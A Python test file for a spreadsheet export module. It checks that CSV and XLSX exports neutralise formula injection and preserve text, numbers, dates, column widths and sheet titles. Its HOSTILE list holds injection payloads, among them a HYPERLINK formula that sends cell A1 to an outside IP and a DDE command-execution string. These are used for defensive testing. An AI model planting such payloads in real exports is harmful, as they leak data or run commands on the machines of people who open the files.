"""Spreadsheets that we export are inert, and can be read back."""

import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from core.exports import Table, plain_text, safe_text, to_csv, to_xlsx

FORMULAS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
HOSTILE = [
    "=1+1",
    '=HYPERLINK("http://198.51.100.1/?x="&A1,"点这里")',
    "=cmd|' /C calc'!A0",
    "+86 138 0013 8000",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\x00=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "'=1+1",
    '"=1+1',
    "“=1+1”",
    " =1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "陈静;=1+1",
    "陈静,=1+1",
    "陈静\n=1+1",
    '陈静"\n=1+1',
]


def csv_rows(table):
    data = to_csv(table)
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def xlsx_cells(table):
    return [cell for row in load_workbook(io.BytesIO(to_xlsx(table))).active.iter_rows() for cell in row if cell.value]


def table_of(text):
    """The text everywhere that a text can be."""
    return Table(title=text, columns=["列", text], rows=[[text, 1], ["后", text]], notes=[text])


@pytest.mark.anchor_41
@pytest.mark.parametrize("text", HOSTILE)
class TestHostileText:
    def test_no_cell_of_the_csv_starts_like_a_formula(self, text):
        for row in csv_rows(table_of(text)):
            for value in row:
                assert not value.startswith(FORMULAS)
                assert not value.lstrip(' \u3000\u200b\ufeff"“').startswith(FORMULAS)

    def test_no_cell_of_the_workbook_is_a_formula(self, text):
        for cell in xlsx_cells(table_of(text)):
            assert cell.data_type in ("s", "n")
            if cell.data_type == "s":
                assert not cell.value.startswith(FORMULAS)

    def test_the_text_comes_back_as_it_was(self, text):
        kept = text.replace("\x00", "")
        assert plain_text(csv_rows(table_of(text))[-1][1]) == kept
        from_xlsx = load_workbook(io.BytesIO(to_xlsx(table_of(text)))).active
        assert plain_text(from_xlsx.cell(5, 2).value).replace("\r", "\n") == kept.replace("\r", "\n")


@given(st.text(alphabet=st.characters(blacklist_categories=["Cs", "Cc"])))
def test_any_text_can_be_read_back(text):
    assert plain_text(safe_text(text)) == text


def test_ordinary_text_is_left_alone():
    for text in ("陈静", "柳岸社区第3网格", "a-b", "50%", "3=3", "“灭火”先期处置", "O'Neill", "'引"):
        assert safe_text(text) == text


def test_numbers_and_dates_stay_numbers_and_dates_in_the_workbook():
    moment = datetime(2026, 6, 25, 7, 0, tzinfo=UTC)
    table = Table(title="表", columns=["a"] * 6, rows=[[-3, 2.5, Decimal("88.50"), date(2026, 6, 25), moment, None]])
    row = load_workbook(io.BytesIO(to_xlsx(table))).active[3]
    assert [cell.value for cell in row[:3]] == [-3, 2.5, 88.5]
    assert row[3].value.date() == date(2026, 6, 25)
    assert (row[4].value, row[5].value) == ("2026-06-25 15:00", None)


def test_every_column_of_the_workbook_is_wide_enough_for_its_cells_and_no_wider_than_a_page():
    rows = ([date(2026, 6, 25), "居民楼火灾先期处置", "长" * 80, 1] for _ in range(300))
    table = Table(title="很长的标题" * 9, columns=["日期", "课程", "说明", "学时"], rows=rows)
    sheet = load_workbook(io.BytesIO(to_xlsx(table))).active
    widths = [sheet.column_dimensions[letter].width for letter in "ABCD"]
    assert widths == [12, 20, 48, 10]
    assert sheet.max_row == 302


def test_the_csv_has_title_notes_header_and_rows():
    table = Table(title="培训情况", notes=["截至6月25日"], columns=["单位", "应训"], rows=[["柳岸社区", 12]])
    assert csv_rows(table) == [["培训情况"], ["截至6月25日"], ["单位", "应训"], ["柳岸社区", "12"]]
    assert to_csv(table).endswith("柳岸社区,12\r\n".encode())


def test_what_is_no_number_is_an_empty_cell():
    assert csv_rows(Table(title="表", columns=["a", "b"], rows=[[float("nan"), float("inf")]]))[-1] == ["", ""]


@pytest.mark.parametrize("title", ["", "[x]:*?/\\'", "很" * 40, "a\nb"])
def test_any_title_makes_a_sheet(title):
    book = load_workbook(io.BytesIO(to_xlsx(Table(title=title, columns=["列"], rows=[]))))
    assert 0 < len(book.active.title) <= 31
